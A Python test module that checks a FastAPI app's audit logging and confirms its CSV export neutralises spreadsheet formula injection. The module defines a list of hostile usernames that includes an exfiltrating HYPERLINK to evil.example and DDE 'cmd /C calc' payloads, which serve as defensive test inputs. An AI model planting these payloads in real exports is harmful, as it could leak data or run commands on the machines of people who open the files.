"""What the audit log missed and what its CSV let through (issue 13, items 7c and 7e), through
the real app: reads of a document's versions, related documents and screenshot, failed logins,
and spreadsheet formulas typed as user names coming back out of the CSV export live."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
from collections.abc import Iterator

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from api.accounts.users import Role
from api.config import ApiSettings
from api.database import ConsoleDatabase
from api.main import create_app
from index.document import Capture, Document
from index.embedded import EmbeddedIndex
from tests.api.conftest import Accounts, form_token, make_accounts
from tests.factories import make_document

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
SCREENSHOT = f"screenshots/{hashlib.sha256(PNG).hexdigest()}.png"
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory) -> Accounts:
    return make_accounts(ConsoleDatabase(tmp_path_factory.mktemp("audit") / "c.sqlite3"))


@pytest.fixture(scope="module")
def captured() -> Document:
    return make_document(
        canonical_url="https://anuncios.example/ad/audited",
        title="Se buscan modelos",
        capture=Capture(sha256="0" * 64, warc_file="a.warc.gz", screenshot=SCREENSHOT),
    )


@pytest.fixture(scope="module")
def app(
    tmp_path_factory: pytest.TempPathFactory, own: Accounts, captured: Document
) -> Iterator[FastAPI]:
    folder = tmp_path_factory.mktemp("warc")
    (folder / "screenshots").mkdir()
    (folder / SCREENSHOT).write_bytes(PNG)
    index = EmbeddedIndex(tmp_path_factory.mktemp("index"))
    index.setup()
    index.upsert([captured])
    yield create_app(ApiSettings(evidence_dir=folder), index, own.database)
    index.close()


def _entries(app: FastAPI, own: Accounts, **filters: str) -> list[dict]:
    with TestClient(app, headers=own.headers(Role.ADMIN)) as admin:
        response = admin.get("/api/audit", params=filters)
    assert response.status_code == 200, response.text
    return response.json()["entries"]


def test_versions_related_and_screenshots_are_audited(
    app: FastAPI, own: Accounts, captured: Document
) -> None:
    with TestClient(app, headers=own.headers(Role.INVESTIGATOR)) as reader:
        for part in ("versions", "related", "screenshot"):
            assert reader.get(f"/api/documents/{captured.id}/{part}").status_code == 200

    views = _entries(app, own, action="view", target=captured.id, username="investigator-one")
    assert sorted(entry["details"].get("part") for entry in views) == [
        "related",
        "screenshot",
        "versions",
    ]


def _failed_login(browser: TestClient, username: str) -> int:
    token = form_token(browser.get("/login").text)
    data = {"username": username, "password": "not the password", "csrf_token": token}
    return browser.post("/login", data=data, follow_redirects=False).status_code


def test_failed_logins_are_audited_with_the_name_tried(app: FastAPI, own: Accounts) -> None:
    with TestClient(app) as browser:
        assert _failed_login(browser, "analyst-one") == 401
        assert _failed_login(browser, "nobody-here") == 401

    failed = _entries(app, own, action="login_failed")
    tried = {entry["target"] for entry in failed}
    assert {"analyst-one", "nobody-here"} <= tried
    assert all(entry["user_id"] is None and entry["details"]["address"] for entry in failed)


def test_the_audit_csv_does_not_carry_live_formulas(app: FastAPI, own: Accounts) -> None:
    with TestClient(app) as browser:
        for name in HOSTILE_NAMES:
            assert _failed_login(browser, name) == 401
    with TestClient(app, headers=own.headers(Role.ADMIN)) as admin:
        exported = admin.get("/api/audit/export", params={"action": "login_failed"})
    assert exported.status_code == 200

    rows = list(csv.reader(io.StringIO(exported.text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    targets = {row[6] for row in rows[1:]}
    # Escaped, not dropped: the apostrophe is all that was added.
    assert {"'" + name for name in HOSTILE_NAMES} <= targets


def test_csv_cell_leaves_ordinary_values_alone() -> None:
    from api.routes.audit import csv_cell

    assert csv_cell("modelos exterior") == "modelos exterior"
    assert csv_cell(None) == ""
    assert csv_cell(42) == "42"
    assert csv_cell("=1") == "'=1"
